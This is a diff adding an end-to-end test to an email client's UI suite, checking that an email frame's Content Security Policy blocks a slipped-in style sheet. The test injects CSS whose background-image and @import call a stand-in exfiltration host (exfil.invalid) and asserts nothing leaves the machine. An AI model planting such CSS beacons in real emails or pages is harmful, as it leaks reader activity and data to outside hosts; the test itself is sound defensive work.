@@ -240,6 +240,27 @@ if (missing) {
       figures.renderMs = Date.now() - started - figures.deliverMs;
     }, 90_000);
 
+    it('a <style> that got past the cleaning still loads nothing: the frame\'s CSP allows its own style sheet only', async () => {
+      const { conversationId } = await ui.receive({ subject: 'Slipped style', html: '<p id="x">A plain message</p>' });
+      await page.goto(`${ui.baseUrl}/inbox?view=all-open&conversation=${conversationId}`);
+      await page.waitForSelector(`#thread-main[data-conversation-id="${conversationId}"]`);
+      await eventually(() => page.frames().some((f) => f.url().includes(`/conversations/${conversationId}/messages/`)), 10_000, 'the email frame');
+      const frame = page.frames().find((f) => f.url().includes(`/conversations/${conversationId}/messages/`))!;
+      await frame.waitForLoadState('load');
+      const before = watch.offMachine.length;
+      // As if the sanitiser had missed it (through the debugger: the frame runs no script itself).
+      await frame.evaluate(`(() => {
+        const style = document.createElement('style');
+        style.textContent = 'body { background-image: url(http://exfil.invalid/slipped-style) } @import url(http://exfil.invalid/slipped-import);';
+        document.body.append(style);
+      })()`);
+      await page.waitForTimeout(500);
+      expect(watch.offMachine.slice(before)).toEqual([]);
+      expect(await frame.evaluate('getComputedStyle(document.body).backgroundImage')).toBe('none');
+      // The frame's own look still applies.
+      expect(await frame.evaluate('getComputedStyle(document.body).marginTop')).toBe('12px');
+    });
+
     /** Every email frame of the thread: nothing in its document can run, load or leave; then a curious agent hovers and clicks. */
     async function checkFrames(s: Shown) {
       const frameCount = await page.locator('iframe.msg-frame').count();
